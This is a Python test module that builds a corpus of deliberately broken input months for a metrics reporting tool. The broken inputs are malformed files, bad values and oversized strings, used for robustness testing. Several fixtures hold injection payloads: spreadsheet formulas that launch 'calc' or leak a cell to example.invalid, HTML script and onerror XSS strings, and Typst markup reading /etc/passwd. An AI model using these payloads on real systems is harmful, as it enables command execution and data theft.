"""The bad-input corpus: every way an input month can be broken, built from one valid month.

Each case starts from a small valid generated month (April 2021, a couple of thousand
requests, every table of the data contract) and breaks one thing. The cases are built by code,
never kept as edited blobs, so each one says exactly what it breaks and stays valid when the
contract or the generator changes. `tests/robustness/test_corpus.py` runs every case through the
command and checks its documented behaviour (docs/robustness.md); to look at the files:

    uv run python -m tests.robustness.corpus OUT_DIR      # builds OUT_DIR/<case>/ for every case
"""

from __future__ import annotations

import csv
import json
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

MONTH = "2021-04"
BASE_REQUESTS = 2_000
BASE_SEED = 7

# Text that must never run: a spreadsheet formula for each formula character, HTML that would
# execute in the dashboard, markup of the PDF engine (Typst) and math/raw delimiters.
FORMULA_NAMES = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
MARKUP_NAMES = (
    '<script>alert("x")</script><img src=x onerror=alert(1)> & Sons',
    '#set page(width: 1cm) #text(fill: red)[pwned] #read("/etc/passwd")',
    "$ x^2 $ *bold* _it_ `raw` <label> @ref \\ ] ) }",
)
HOSTILE_NAMES = FORMULA_NAMES + MARKUP_NAMES
TEN_MB = 10 * 1024 * 1024


def base_month(out: Path) -> Path:
    """The valid month every case starts from (Parquet, every table)."""
    from opmetrics.generator import generate_month

    generate_month(out, MONTH, BASE_REQUESTS, seed=BASE_SEED)
    (out / "truth.json").unlink(missing_ok=True)
    return out


# -- editing helpers --------------------------------------------------------------------------


def read(data: Path, table: str) -> pa.Table:
    return pq.read_table(data / f"{table}.parquet")


def write(data: Path, table: str, t: pa.Table) -> None:
    pq.write_table(t, data / f"{table}.parquet")


def set_cell(t: pa.Table, column: str, row: int, value: Any) -> pa.Table:
    """`t` with one cell replaced (the column keeps its type)."""
    values = t.column(column).to_pylist()
    values[row] = value
    i = t.schema.get_field_index(column)
    return t.set_column(i, t.schema.field(i), pa.array(values, t.schema.field(i).type))


def edit(data: Path, table: str, column: str, rows: dict[int, Any]) -> None:
    t = read(data, table)
    for row, value in rows.items():
        t = set_cell(t, column, row, value)
    write(data, table, t)


def shift_all(t: pa.Table, delta: timedelta) -> pa.Table:
    """Every timestamp of the table moved by `delta`."""
    for i, f in enumerate(t.schema):
        if pa.types.is_timestamp(f.type):
            shifted = pc.add(t.column(i), pa.scalar(delta, pa.duration("us")))
            t = t.set_column(i, f, pc.cast(shifted, f.type))
    return t


def _csv_text(v: Any) -> str:
    if v is None:
        return ""
    if isinstance(v, datetime):
        return v.astimezone(UTC).isoformat().replace("+00:00", "Z")
    if isinstance(v, bool):
        return "true" if v else "false"
    return str(v)


def to_csv(data: Path, table: str, *, delimiter: str = ",", encoding: str = "utf-8") -> Path:
    """Replace a table's Parquet file by the same rows as CSV (the contract's CSV form)."""
    t = read(data, table)
    p = data / f"{table}.csv"
    with p.open("w", newline="", encoding=encoding) as fh:
        w = csv.writer(fh, delimiter=delimiter, lineterminator="\n")
        w.writerow(t.column_names)
        for rec in t.to_pylist():
            w.writerow([_csv_text(rec[c]) for c in t.column_names])
    (data / f"{table}.parquet").unlink()
    return p


def csv_lines(p: Path) -> list[bytes]:
    return p.read_bytes().splitlines(keepends=True)


# -- the cases ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One broken input: how to build it, and how to run opmetrics on it."""

    name: str
    what: str  # what is broken, one line (the first column of docs/robustness.md)
    build: Callable[[Path], None]  # breaks a copy of the base month in place
    command: str = "compute"  # compute or validate
    month: str = MONTH
    extra_args: tuple[str, ...] = field(default=())


def _truncated_parquet(d: Path) -> None:
    p = d / "service_requests.parquet"
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])


def _truncated_optional_table(d: Path) -> None:
    p = d / "alerts.parquet"
    data = p.read_bytes()
    p.write_bytes(data[: len(data) - 100])


def _not_parquet(d: Path) -> None:
    (d / "outages.parquet").write_text("outage_id,interface\nOUT-1,DCC User Interface\n")


def _csv_stray_quote(d: Path) -> None:
    p = to_csv(d, "service_requests")
    lines = csv_lines(p)
    cells = lines[10].split(b",")
    cells[2] = b'"' + cells[2]  # line 11: user_role opens a quote that never closes
    lines[10] = b",".join(cells)
    p.write_bytes(b"".join(lines))


def _csv_wrong_delimiter(d: Path) -> None:
    to_csv(d, "service_requests", delimiter=";")


def _csv_bom(d: Path) -> None:
    p = to_csv(d, "service_requests")
    p.write_bytes(b"\xef\xbb\xbf" + p.read_bytes())


def _csv_cr_line_ends(d: Path) -> None:
    p = to_csv(d, "service_requests")
    p.write_bytes(p.read_bytes().replace(b"\n", b"\r"))


def _csv_not_utf8(d: Path) -> None:
    t = read(d, "parties")
    write(d, "parties", set_cell(t, "name", 3, "Énergie Société"))
    to_csv(d, "parties", encoding="latin-1")  # é as the single byte 0xe9


def _csv_utf16(d: Path) -> None:
    to_csv(d, "parties", encoding="utf-16")


def _csv_empty_file(d: Path) -> None:
    to_csv(d, "parties").write_bytes(b"")


def _csv_header_only(d: Path) -> None:
    p = to_csv(d, "parties")
    p.write_bytes(csv_lines(p)[0])


def _csv_bad_cells(d: Path) -> None:
    t = read(d, "service_requests")
    p = to_csv(d, "service_requests")
    lines = csv_lines(p)
    names = t.column_names
    for line, col, value in ((5, "dsp_attempts", "two"), (6, "received_at", "yesterday")):
        cells = next(csv.reader([lines[line - 1].decode()]))
        cells[names.index(col)] = value
        lines[line - 1] = (",".join(cells) + "\n").encode()
    p.write_bytes(b"".join(lines))


def _parquet_wrong_type(d: Path) -> None:
    t = read(d, "service_requests")
    i = t.schema.get_field_index("dsp_attempts")
    col = pc.cast(t.column(i), pa.string())
    write(d, "service_requests", t.set_column(i, pa.field("dsp_attempts", pa.string()), col))


def _parquet_timestamp_as_text(d: Path) -> None:
    t = read(d, "incidents")
    i = t.schema.get_field_index("raised_at")
    col = pc.cast(t.column(i), pa.string())
    write(d, "incidents", t.set_column(i, pa.field("raised_at", pa.string()), col))


def _missing_column(d: Path) -> None:
    write(d, "devices", read(d, "devices").drop_columns(["firmware_version"]))


def _duplicate_request_ids(d: Path) -> None:
    t = read(d, "service_requests")
    first = t.column("request_id").to_pylist()
    edit(d, "service_requests", "request_id", {20: first[10], 21: first[10], 31: first[30]})


def _timestamps_out_of_order(d: Path) -> None:
    t = read(d, "service_requests")
    received = t.column("received_at").to_pylist()
    edit(
        d,
        "service_requests",
        "responded_at",
        {i: received[i] - timedelta(seconds=5) for i in (3, 4, 5)},
    )


def _timestamps_decades_ahead(d: Path) -> None:
    t = read(d, "service_requests")
    received = t.column("received_at").to_pylist()
    edit(
        d,
        "service_requests",
        "responded_at",
        {i: received[i] + timedelta(days=365 * 30) for i in (7, 8)},
    )
    t = read(d, "service_requests")  # row 9: every timestamp moved to the year 2150
    moved = shift_all(t.slice(9, 1), datetime(2150, 4, 12, tzinfo=UTC) - received[9])
    write(d, "service_requests", pa.concat_tables([t.slice(0, 9), moved, t.slice(10)]))


def _received_decades_ahead(d: Path) -> None:
    """Whole rows 40 years ahead: plausible in themselves, but not in the month."""
    t = read(d, "service_requests")
    head = shift_all(t.slice(0, 5), timedelta(days=365 * 40))
    write(d, "service_requests", pa.concat_tables([head, t.slice(5)]))


def _attempts(d: Path) -> None:
    edit(d, "service_requests", "dsp_attempts", {12: 0, 13: -1, 14: -2_147_483_648})


def _unknown_values(d: Path) -> None:
    edit(d, "service_requests", "srv", {40: "99.9"})
    edit(d, "service_requests", "region", {41: "Atlantis"})
    edit(d, "service_requests", "device_type", {42: "TOASTER"})
    edit(d, "service_requests", "response_code", {43: "Z999"})


def _ten_mb_string(d: Path) -> None:
    edit(d, "service_requests", "request_id", {50: "A" * TEN_MB})
    edit(d, "service_requests", "user_role", {51: "R" * TEN_MB})


def _ten_mb_party_name(d: Path) -> None:
    edit(d, "parties", "name", {0: "N" * TEN_MB})


def _adaptor(name: str) -> str:
    """A hostile adaptor name that is not the party's name (adaptors are shared products)."""
    return f"{name} Gateway"


def _formula_names(d: Path, first: int = 0) -> None:
    edit(d, "parties", "name", {first + i: v for i, v in enumerate(FORMULA_NAMES)})
    edit(d, "parties", "adaptor", {first + i: _adaptor(v) for i, v in enumerate(FORMULA_NAMES)})


def _markup_names(d: Path, first: int = 0) -> None:
    edit(d, "parties", "name", {first + i: v for i, v in enumerate(MARKUP_NAMES)})
    edit(d, "parties", "adaptor", {first + i: _adaptor(v) for i, v in enumerate(MARKUP_NAMES)})


def _hostile_device_models(d: Path) -> None:
    t = read(d, "devices")
    models = sorted(set(t.column("model").to_pylist()))
    swap = {m: HOSTILE_NAMES[i % len(HOSTILE_NAMES)] for i, m in enumerate(models)}
    i = t.schema.get_field_index("model")
    col = pa.array([swap[m] for m in t.column("model").to_pylist()], pa.string())
    write(d, "devices", t.set_column(i, pa.field("model", pa.string()), col))


def _empty(table: str) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        t = read(d, table)
        write(d, table, t.schema.empty_table())

    return build


def _absent(table: str) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        (d / f"{table}.parquet").unlink()

    return build


def _month_without_data(d: Path) -> None:
    """Requests of March and May, none of April."""
    t = read(d, "service_requests")
    half = t.num_rows // 2
    write(
        d,
        "service_requests",
        pa.concat_tables(
            [
                shift_all(t.slice(0, half), timedelta(days=-31)),
                shift_all(t.slice(half), timedelta(days=31)),
            ]
        ),
    )


def _missing_days(d: Path) -> None:
    """April with its last ten days missing (an extract cut short)."""
    t = read(d, "service_requests")
    cut = datetime(2021, 4, 20, 23, 0, tzinfo=UTC)
    write(d, "service_requests", t.filter(pc.less(t.column("received_at"), pa.scalar(cut))))


def _unchanged(d: Path) -> None:
    pass


def _table_twice(d: Path) -> None:
    shutil.copy(d / "parties.parquet", d / "parties.parquet.bak")
    to_csv(d, "parties")
    (d / "parties.parquet.bak").rename(d / "parties.parquet")


def _extra_column(d: Path) -> None:
    t = read(d, "parties")
    write(d, "parties", t.append_column("notes", pa.array(["x"] * t.num_rows, pa.string())))


def _dictionary_and_large_strings(d: Path) -> None:
    """Same values, other Arrow encodings of text (what pandas and Spark write)."""
    t = read(d, "service_requests")
    i = t.schema.get_field_index("srv")
    t = t.set_column(
        i,
        pa.field("srv", pa.dictionary(pa.int32(), pa.string())),
        pc.dictionary_encode(t.column(i)),
    )
    j = t.schema.get_field_index("region")
    t = t.set_column(
        j, pa.field("region", pa.large_string()), pc.cast(t.column(j), pa.large_string())
    )
    write(d, "service_requests", t)


def _not_a_folder(d: Path) -> None:
    shutil.rmtree(d)
    d.write_text("not a data dir\n")


CASES: tuple[Case, ...] = (
    Case("truncated_parquet", "service_requests.parquet cut in half", _truncated_parquet),
    Case(
        "truncated_optional_parquet",
        "alerts.parquet missing its last 100 bytes",
        _truncated_optional_table,
    ),
    Case("csv_named_parquet", "outages.parquet holding CSV text", _not_parquet),
    Case("csv_stray_quote", "a CSV field opens a quote that never closes", _csv_stray_quote),
    Case("csv_wrong_delimiter", "a CSV written with ';' as delimiter", _csv_wrong_delimiter),
    Case("csv_bom", "a CSV starting with a UTF-8 byte order mark", _csv_bom),
    Case("csv_cr_line_ends", "a CSV whose lines end with a lone CR", _csv_cr_line_ends),
    Case("csv_not_utf8", "a CSV in Latin-1 (byte 0xe9 in a party name)", _csv_not_utf8),
    Case("csv_utf16", "a CSV in UTF-16", _csv_utf16),
    Case("csv_empty_file", "a CSV of zero bytes", _csv_empty_file),
    Case("csv_header_only", "a CSV with its header and no rows", _csv_header_only),
    Case("csv_bad_cells", "CSV cells that are not of their column's type", _csv_bad_cells),
    Case("parquet_wrong_type", "dsp_attempts stored as text in Parquet", _parquet_wrong_type),
    Case(
        "parquet_timestamp_as_text",
        "incidents.raised_at stored as text",
        _parquet_timestamp_as_text,
    ),
    Case("missing_column", "devices without its firmware_version column", _missing_column),
    Case("extra_column", "parties with a column the contract does not know", _extra_column),
    Case(
        "other_string_encodings",
        "dictionary-encoded and large_string text columns",
        _dictionary_and_large_strings,
    ),
    Case("table_given_twice", "parties.parquet and parties.csv side by side", _table_twice),
    Case("duplicate_request_ids", "three rows reusing earlier request_ids", _duplicate_request_ids),
    Case("timestamps_out_of_order", "responded_at before received_at", _timestamps_out_of_order),
    Case(
        "timestamps_decades_ahead",
        "responded_at 30 years after received_at; a row in 2150",
        _timestamps_decades_ahead,
    ),
    Case("rows_decades_ahead", "whole rows 40 years in the future", _received_decades_ahead),
    Case("bad_attempts", "dsp_attempts 0, -1 and -2^31", _attempts),
    Case(
        "unknown_values", "an unknown SRV, region, device type and response code", _unknown_values
    ),
    Case("ten_mb_strings", "a 10 MiB request_id and a 10 MiB user_role", _ten_mb_string),
    Case("ten_mb_party_name", "a party name of 10 MiB", _ten_mb_party_name),
    Case("formula_party_names", "party names and adaptors starting with = + - @", _formula_names),
    Case(
        "markup_party_names",
        "party names and adaptors holding HTML and Typst markup",
        _markup_names,
    ),
    Case(
        "hostile_device_models", "device models holding formulas and markup", _hostile_device_models
    ),
    Case("empty_service_requests", "service_requests with no rows", _empty("service_requests")),
    Case("empty_alerts", "alerts with no rows", _empty("alerts")),
    Case("empty_outages", "outages with no rows", _empty("outages")),
    Case("absent_alerts", "no alerts table at all", _absent("alerts")),
    Case("absent_service_requests", "no service_requests table", _absent("service_requests")),
    Case("month_without_data", "requests of March and May, none of April", _month_without_data),
    Case("missing_days", "April's last ten days missing", _missing_days),
    Case("wrong_month", "an April data dir computed as June", _unchanged, month="2021-06"),
    Case("malformed_month", "--month 2021-13", _unchanged, month="2021-13"),
    Case("data_dir_is_a_file", "the data dir is a file", _not_a_folder),
)

CASE_BY_NAME = {c.name: c for c in CASES}


# -- hostile names everywhere a name can come from ---------------------------------------------

# Catalog names are shown in every pack and the dashboard; SRV names also reach the results.
HOSTILE_CATALOG_NAMES = {
    'name = "Change of Supplier"': "<b onmouseover=alert(1)>Change</b> of Supplier & Co",
    'name = "Tariff Updates"': '#set page(width: 1cm) Tariff #text(fill: red)[Updates] #read("x")',
    'name = "Prepayment"': '=HYPERLINK("http://example.invalid","Prepayment")',
    'name = "Top Up Device"': "@Top $ x^2 $ *Up* _Device_ `raw` <label> </script>",
}


def hostile_catalog(path: Path) -> Path:
    """The shipped catalog with hostile business process and SRV names."""
    from importlib import resources

    text = resources.files("opmetrics.catalog").joinpath("default.toml").read_text("utf-8")
    for old, name in HOSTILE_CATALOG_NAMES.items():
        assert text.count(old) == 1, old
        text = text.replace(old, f"name = {json.dumps(name)}")
    path.write_text(text, encoding="utf-8")
    return path


def _toml(v: Any) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, (int, float)):
        return repr(v)
    if isinstance(v, str):
        return json.dumps(v)
    if isinstance(v, list):
        return "[" + ", ".join(_toml(x) for x in v) + "]"
    return "{ " + ", ".join(f"{json.dumps(k)} = {_toml(x)}" for k, x in v.items()) + " }"


def small_catalog(path: Path, srvs: tuple[str, ...] = ("2.2",)) -> Path:
    """The shipped catalog with only these SRVs: one business process pack instead of seven.

    For tests that run a report many times (the others' requests are quarantined as
    `unknown_srv`; everything else about the month is unchanged).
    """
    import tomllib
    from importlib import resources

    text = resources.files("opmetrics.catalog").joinpath("default.toml").read_text("utf-8")
    data = tomllib.loads(text)
    data["srv"] = [s for s in data["srv"] if s["id"] in srvs]
    lines = []
    for key, value in data.items():
        if isinstance(value, dict):
            lines += [f"[{key}]", *(f"{k} = {_toml(v)}" for k, v in value.items()), ""]
        else:
            for item in value:
                lines += [f"[[{key}]]", *(f"{k} = {_toml(v)}" for k, v in item.items()), ""]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def hostile_month(base: Path, dest: Path) -> Path:
    """The base month with hostile party names, adaptors and device models."""
    shutil.copytree(base, dest)
    _formula_names(dest)
    _markup_names(dest, first=len(FORMULA_NAMES))
    _hostile_device_models(dest)
    return dest


def hostile_user_ids(data: Path) -> list[str]:
    """The user_ids of the parties `hostile_month` renamed, in HOSTILE_NAMES order."""
    return read(data, "parties").column("user_id").to_pylist()[: len(HOSTILE_NAMES)]


def build_case(case: Case, base: Path, dest: Path) -> Path:
    """A copy of the base month in `dest`, broken as `case` says."""
    shutil.copytree(base, dest)
    case.build(dest)
    return dest


def argv(case: Case, data: Path, out: Path) -> list[str]:
    if case.command == "validate":
        return ["validate", str(data), "--quarantine", str(out / "quarantine.csv")]
    return ["compute", str(data), "--month", case.month, "--out", str(out), *case.extra_args]


def main(args: list[str]) -> int:
    if len(args) != 1:
        print("usage: python -m tests.robustness.corpus OUT_DIR", file=sys.stderr)
        return 2
    root = Path(args[0])
    root.mkdir(parents=True, exist_ok=True)
    base = base_month(root / "_base")
    for c in CASES:
        dest = root / c.name
        shutil.rmtree(dest, ignore_errors=True)
        build_case(c, base, dest)
        print(f"{c.name}: {c.what}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
